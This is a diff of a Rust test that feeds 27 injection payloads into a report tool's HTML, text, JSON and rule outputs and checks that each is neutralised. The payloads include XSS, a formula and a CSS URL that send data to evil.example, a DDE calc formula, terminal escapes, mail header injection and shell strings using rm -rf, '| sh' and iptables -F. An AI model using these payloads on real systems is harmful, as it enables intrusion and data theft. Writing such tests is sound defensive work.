@@ -23,7 +23,10 @@ const PAYLOADS: [(&str, &str); 27] = [
     ("script", "<script>zqx7()</script>"),
     ("image", "<img src=x onerror=zqx7()>"),
     ("svg", "<svg/onload=zqx7()>"),
-    ("style element", "</style><style>*{background:url(//evil.example/zqx7)}</style>"),
+    (
+        "style element",
+        "</style><style>*{background:url(//evil.example/zqx7)}</style>",
+    ),
     ("end of a title", "</title></textarea></noscript><p>zqx7"),
     ("comment", "--><!--zqx7"),
     ("attribute, double", "\" onmouseover=\"zqx7()\" x=\""),
@@ -37,13 +40,25 @@ const PAYLOADS: [(&str, &str); 27] = [
     ("text turned round", "zqx7\u{202e}gpj.exe\u{2066}\u{2069}"),
     ("letters of no width", "z\u{200b}zqx7\u{200d}\u{feff}\u{ad}"),
     ("terminal colours", "\u{1b}[31mzqx7\u{1b}[2J\u{9b}0m"),
-    ("terminal link", "\u{1b}]8;;https://evil.example/\u{7}zqx7\u{1b}]8;;\u{7}"),
+    (
+        "terminal link",
+        "\u{1b}]8;;https://evil.example/\u{7}zqx7\u{1b}]8;;\u{7}",
+    ),
     ("terminal, over the line", "zqx7\r\u{8}\u{8}\u{7f}"),
-    ("formula", "=HYPERLINK(\"https://evil.example/?\"&A1,\"zqx7\")"),
+    (
+        "formula",
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"zqx7\")",
+    ),
     ("formula, plus", "+zqx7|'/C calc'!A0"),
     ("formula, at", "@SUM(zqx7)\t=1+1"),
-    ("mail header", "zqx7\r\nBcc: all@example.com\r\n\r\n.\r\nFrom zqx7"),
-    ("shell", "$(touch zqx7)`touch zqx7`; rm -rf zqx7 | sh & \"' \\"),
+    (
+        "mail header",
+        "zqx7\r\nBcc: all@example.com\r\n\r\n.\r\nFrom zqx7",
+    ),
+    (
+        "shell",
+        "$(touch zqx7)`touch zqx7`; rm -rf zqx7 | sh & \"' \\",
+    ),
     ("next line", "zqx7\niptables -F\u{2028}iptables -X\u{85}"),
     ("template", "{{zqx7}}${zqx7}<%=zqx7%>%s%n"),
     ("prototype", "__proto__\u{0}zqx7"),
@@ -76,21 +91,37 @@ const PLACES: [Place; 8] = [
     ("saved page", Kind::Markup, |report, lang| {
         vec![html::document(report, &state(report, lang), "a { }")]
     }),
-    ("text", Kind::Lines, |report, lang| vec![text::text(report, lang)]),
-    ("drafts", Kind::Lines, |report, lang| {
-        [true, false].into_iter().flat_map(|masked| drafts(report, masked, lang)).collect()
+    ("text", Kind::Lines, |report, lang| {
+        vec![text::text(report, lang)]
     }),
-    ("report as JSON", Kind::Data, |report, _| vec![json::json(report)]),
+    ("drafts", Kind::Lines, |report, lang| {
+        [true, false]
+            .into_iter()
+            .flat_map(|masked| drafts(report, masked, lang))
+            .collect()
+    }),
+    ("report as JSON", Kind::Data, |report, _| {
+        vec![json::json(report)]
+    }),
     ("lines as JSON", Kind::Data, |report, _| lines(report)),
     ("block rules", Kind::Rules, |report, lang| {
-        let proposal = propose(report, &Choice { least: 1, ..Choice::default() });
-        Format::ALL.into_iter().map(|format| rules(&proposal, format, lang)).collect()
+        let proposal = propose(
+            report,
+            &Choice {
+                least: 1,
+                ..Choice::default()
+            },
+        );
+        Format::ALL
+            .into_iter()
+            .map(|format| rules(&proposal, format, lang))
+            .collect()
     }),
 ];
 
 #[test]
 fn no_payload_does_anything_in_any_place() {
-    let mut tried = 0;
+    let (mut tried, mut problems) = (0, Vec::new());
     for (payload, evil) in PAYLOADS {
         assert!(evil.contains(MARK), "{payload}");
         for report in [poisoned(evil, true), poisoned(evil, false)] {
@@ -98,39 +129,70 @@ fn no_payload_does_anything_in_any_place() {
                 for lang in Lang::ALL {
                     for out in write(&report, lang) {
                         let what = format!("{payload} in {place}");
-                        match kind {
+                        let result = match kind {
                             Kind::Markup => markup(&what, &out),
                             Kind::Lines => text_lines(&what, &out),
                             Kind::Data => data(&what, &out, evil),
                             Kind::Rules => no_word(&what, &out),
-                        }
+                        };
+                        problems.extend(result.err());
                         tried += 1;
                     }
                 }
             }
         }
     }
-    println!("{} payloads, {} places: {tried} outputs looked at", PAYLOADS.len(), PLACES.len());
+    problems.dedup();
+    assert!(problems.is_empty(), "{}", problems.join("\n"));
+    println!(
+        "{} payloads, {} places: {tried} outputs looked at",
+        PAYLOADS.len(),
+        PLACES.len()
+    );
 }
 
-fn markup(what: &str, page: &str) {
-    assert!(page.contains(MARK), "{what}: the text is not shown");
+/// Gives the problem back where something does not hold.
+macro_rules! hold {
+    ($what:expr, $($words:tt)+) => {
+        if !$what {
+            return Err(format!($($words)+));
+        }
+    };
+}
+
+fn markup(what: &str, page: &str) -> Result<(), String> {
+    hold!(page.contains(MARK), "{what}: the text is not shown");
     let own = ["!DOCTYPE", "html", "head", "meta", "title", "style", "body"];
     for tag in page.split('<').skip(1) {
         let tag = tag.split('>').next().unwrap_or_default();
-        let name = tag.trim_start_matches('/').split([' ', '>']).next().unwrap_or_default();
+        let name = tag
+            .trim_start_matches('/')
+            .split([' ', '>'])
+            .next()
+            .unwrap_or_default();
         let frame = own.contains(&name);
-        assert!(frame || ELEMENTS.contains(&name), "{what}: <{tag}>");
+        hold!(frame || ELEMENTS.contains(&name), "{what}: <{tag}>");
         // Values are quoted and hold no quote: every second piece is a value.
-        let names = tag.split('"').step_by(2).flat_map(str::split_whitespace).skip(1);
-        for name in names.map(|name| name.trim_end_matches('=')).filter(|name| !name.is_empty()) {
+        let names = tag
+            .split('"')
+            .step_by(2)
+            .flat_map(str::split_whitespace)
+            .skip(1);
+        for name in names
+            .map(|name| name.trim_end_matches('='))
+            .filter(|name| !name.is_empty())
+        {
             let ours = frame || ATTRIBUTES.contains(&name) || name.starts_with("data-");
-            assert!(ours && !name.starts_with("on"), "{what}: {name} in <{tag}>");
+            hold!(ours && !name.starts_with("on"), "{what}: {name} in <{tag}>");
         }
-        for link in tag.split("href=\"").skip(1).chain(tag.split("src=\"").skip(1)) {
-            assert!(link.starts_with('#'), "{what}: <{tag}>");
+        for link in tag
+            .split("href=\"")
+            .skip(1)
+            .chain(tag.split("src=\"").skip(1))
+        {
+            hold!(link.starts_with('#'), "{what}: <{tag}>");
         }
-        assert!(frame || !tag.contains(" style="), "{what}: <{tag}>");
+        hold!(frame || !tag.contains(" style="), "{what}: <{tag}>");
     }
     // What stands in `data-*` is looked up and not seen; all else is.
     let seen: String = page
@@ -138,29 +200,40 @@ fn markup(what: &str, page: &str) {
         .filter_map(|piece| piece.split_once('>'))
         .map(|(_, text)| text)
         .collect();
-    assert_eq!(seen.chars().find(|&c| c != '\n' && is_hidden(c)), None, "{what}");
+    let hidden = seen.chars().find(|&c| c != '\n' && is_hidden(c));
+    hold!(hidden.is_none(), "{what}: {hidden:?} is hidden");
+    Ok(())
 }
 
-fn text_lines(what: &str, out: &str) {
-    assert_eq!(out.chars().find(|&c| c != '\n' && is_hidden(c)), None, "{what}");
+fn text_lines(what: &str, out: &str) -> Result<(), String> {
+    let hidden = out.chars().find(|&c| c != '\n' && is_hidden(c));
+    hold!(hidden.is_none(), "{what}: {hidden:?} is hidden");
     for line in out.lines() {
         let start = line.trim_start();
-        let begun = ["Bcc:", "From zqx7", "iptables", "."].iter().any(|word| start.starts_with(word));
-        assert!(!begun, "{what}: {line}");
+        let begun = ["Bcc:", "From zqx7", "iptables", "."]
+            .iter()
+            .any(|word| start.starts_with(word));
+        hold!(!begun, "{what}: {line}");
     }
+    Ok(())
 }
 
-fn data(what: &str, out: &str, evil: &str) {
-    assert!(!out.contains(['\n', '\r', '\u{1b}', '\0']), "{what}: a raw control");
+fn data(what: &str, out: &str, evil: &str) -> Result<(), String> {
+    hold!(
+        !out.contains(['\n', '\r', '\u{1b}', '\0']),
+        "{what}: a raw control"
+    );
     let value: Value = serde_json::from_str(out).unwrap_or_default();
     let mut found = false;
     walk(&value, &mut |text| found |= text == evil);
-    assert!(found, "{what}: the text does not come back as it was");
+    hold!(found, "{what}: the text does not come back as it was");
+    Ok(())
 }
 
-fn no_word(what: &str, out: &str) {
-    assert!(!out.contains(MARK) && !out.contains("iptables -F"), "{what}:\n{out}");
-    assert!(out.chars().all(|c| c == '\n' || !is_hidden(c)), "{what}");
+fn no_word(what: &str, out: &str) -> Result<(), String> {
+    hold!(!out.contains(MARK), "{what}:\n{out}");
+    hold!(out.chars().all(|c| c == '\n' || !is_hidden(c)), "{what}");
+    Ok(())
 }
 
 fn drafts(report: &Report, masked: bool, lang: Lang) -> Vec<String> {
@@ -223,7 +296,9 @@ fn poisoned(evil: &str, addresses: bool) -> Report {
 fn poison(value: &mut Value, evil: &str, addresses: bool) {
     match value {
         Value::String(text) => *text = evil.into(),
-        Value::Array(values) => values.iter_mut().for_each(|one| poison(one, evil, addresses)),
+        Value::Array(values) => values
+            .iter_mut()
+            .for_each(|one| poison(one, evil, addresses)),
         // The tag of a FileProblem is not text but says which variant it is.
         Value::Object(fields) => fields
             .iter_mut()
